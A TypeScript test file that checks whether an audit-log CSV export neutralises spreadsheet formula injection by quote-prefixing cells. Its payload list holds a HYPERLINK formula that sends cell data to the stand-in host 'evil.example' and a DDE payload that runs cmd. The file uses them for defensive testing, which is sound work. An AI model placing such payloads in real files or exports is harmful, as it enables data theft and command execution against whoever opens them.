import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CLI_ACTOR, recordAudit } from '../../src/audit/log.ts';
import { useTestApp } from '../helpers/app.ts';
import { pageSession } from '../helpers/session.ts';

const t = useTestApp();

const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3+cmd'];
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('the audit log as CSV', () => {
  it('keeps every text cell, and every cell of its describing line, out of formula reach; ids and times stay as they are', async () => {
    for (const payload of PAYLOADS) {
      await t.deps.db.transaction().execute((tx) => recordAudit(tx, CLI_ACTOR, { action: 'formula.entry', subjectType: 'contact', subjectId: payload, details: { name: payload } }));
    }
    const auditor = await t.userWithToken('auditor');
    const s = await pageSession(t.app, auditor.email, auditor.password);
    const actorFilter = 'cli,=HYPERLINK("http://evil.example/");@SUM(1+1)';
    // The describing line names the filter; a comma or semicolon in it must not start a formula cell.
    for (const res of [
      await t.api(auditor.token, 'GET', `/api/v1/audit.csv?action=formula.&actor=${encodeURIComponent(actorFilter)}`),
      await s.get(`/audit.csv?action=formula.&actor=${encodeURIComponent(actorFilter)}`),
    ]) {
      expect(res.status).toBe(200);
      const [first] = (await res.text()).split('\n');
      expect(first).toContain(`actor containing cli,'=HYPERLINK("http://evil.example/");'@SUM(1+1)`);
      for (const cell of first!.split(/[,;]/)) expect(cell.replace(/^[\s"]+/, ''), first).not.toMatch(FORMULA_START);
    }
    for (const res of [await t.api(auditor.token, 'GET', '/api/v1/audit.csv?action=formula.'), await s.get('/audit.csv?action=formula.')]) {
      expect(res.status).toBe(200);
      const rows = parse(await res.text(), { comment: '#', columns: true }) as Record<string, string>[];
      expect(rows.map((r) => r['subject_id']).sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
      for (const row of rows) {
        for (const [column, value] of Object.entries(row)) expect(value, column).not.toMatch(FORMULA_START);
        expect(row['id']).toMatch(/^\d+$/);
        expect(row['at']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
        // The details keep their JSON (a cell starting with "{" is no formula), so the chain can be re-checked offline.
        expect(PAYLOADS).toContain((JSON.parse(row['details']!) as { name: string }).name);
      }
    }
  });
});
